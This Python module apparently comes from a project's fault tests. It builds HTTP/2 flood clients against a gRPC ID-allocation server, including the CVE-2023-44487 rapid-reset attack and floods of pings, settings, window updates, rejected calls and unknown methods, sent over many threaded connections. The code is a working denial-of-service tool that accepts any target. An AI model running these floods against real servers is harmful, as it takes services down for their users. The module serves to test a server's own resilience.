"""Clients that send frames of HTTP/2 as fast as their connections take them, and read whatever comes back.

Each costs its sender less than it may cost a server. ``tests/faults/attack.py`` runs them.
"""

import socket
import struct
import threading
import time
from collections import Counter
from collections.abc import Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from itertools import count
from typing import Any

from idalloc.v1 import id_allocator_pb2 as pb
from tests.faults import http2

ORDERS = pb.AllocateRangeRequest(sequence="flooded").SerializeToString()
WRONG_TOKEN = [("authorization", "Bearer " + "x" * 43)]
# So many calls, or frames, are sent at a time.
BATCH = 100
# The error code of a stream that its client no longer needs.
CANCEL = 8
# How long a flood waits for a server that reads nothing, or sends nothing more.
PATIENCE = 10


class Repeated:
    """Batches of the same frames.

    Args:
        frames: The frames of one turn, all of stream 1.
        opening: What comes before the first turn.
        renumber: Whether each turn is a stream of its own.
    """

    def __init__(self, *frames: bytes, opening: bytes = b"", renumber: bool = True) -> None:
        self._frames = frames
        self._opening = opening
        self._renumber = renumber

    def __iter__(self) -> Iterator[bytes]:
        yield self._opening
        streams = count(1, 2)
        batch = b"".join(self._frames) * BATCH
        while True:
            if self._renumber:
                numbers = (struct.pack(">I", next(streams)) for _ in range(BATCH))
                batch = b"".join(each[:5] + number + each[9:] for number in numbers for each in self._frames)
            yield batch


def _call(method: str = "AllocateRange", request: bytes = ORDERS, **how: Any) -> tuple[bytes, bytes]:
    return http2.headers(1, method, **how), http2.message(1, request)


def _repeated_on_a_call(frame: bytes) -> Repeated:
    return Repeated(frame, opening=http2.headers(1, "AllocateRange"), renumber=False)


_RESET = http2.frame(http2.RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
FLOODS: dict[str, Iterable[bytes]] = {
    # CVE-2023-44487: a call is taken back as soon as it is begun.
    "rapid_resets": Repeated(http2.headers(1, "AllocateRange"), _RESET),
    "resets_of_calls": Repeated(*_call(), _RESET),
    "calls": Repeated(*_call()),
    "rejected_calls": Repeated(*_call(metadata=WRONG_TOKEN)),
    "rejected_streams": Repeated(*_call("StreamRanges", metadata=WRONG_TOKEN)),
    "unknown_methods": Repeated(*_call(service="/no.such.Service/")),
    "health_checks": Repeated(*_call("Check", b"", service="/grpc.health.v1.Health/")),
    "pings": Repeated(http2.frame(http2.PING, 0, 0, bytes(8)), renumber=False),
    "settings": Repeated(http2.settings(65_535), renumber=False),
    "empty_data": _repeated_on_a_call(http2.frame(http2.DATA, 0, 1)),
    "window_updates": _repeated_on_a_call(http2.frame(http2.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
}


def flood(target: str, number: int, seconds: float, abreast: int, kind: str, **_others: Any) -> Counter[str]:
    """Floods for so long, on so many connections; one that the server ends is opened again, up to ``number`` times."""
    deadline = time.monotonic() + seconds

    def on_one_connection(_: int) -> Counter[str]:
        seen = Counter[str]()
        while time.monotonic() < deadline and seen["connections"] < number:
            seen["connections"] += 1
            try:
                with http2.connect(target, 2**31 - 1) as connection:
                    seen += _send(connection, FLOODS[kind], deadline)
            except OSError:
                seen["hung up"] += 1
        return seen

    with ThreadPoolExecutor(abreast) as pool:
        return sum(pool.map(on_one_connection, range(abreast)), Counter())


def _send(connection: socket.socket, batches: Iterable[bytes], deadline: float) -> Counter[str]:
    seen = Counter[str]()
    connection.settimeout(PATIENCE)
    connection.sendall(http2.frame(http2.WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65_535)))
    reader = threading.Thread(target=_read, args=[connection, seen])
    reader.start()
    try:
        for batch in batches:
            connection.sendall(batch)
            seen["sent"] += BATCH
            if time.monotonic() > deadline:
                break
        connection.shutdown(socket.SHUT_RDWR)
    except OSError:
        seen["hung up"] += 1
    finally:
        reader.join()
    return seen


def _read(connection: socket.socket, seen: Counter[str]) -> None:
    with suppress(OSError):
        while data := connection.recv(1 << 20):
            seen["bytes"] += len(data)
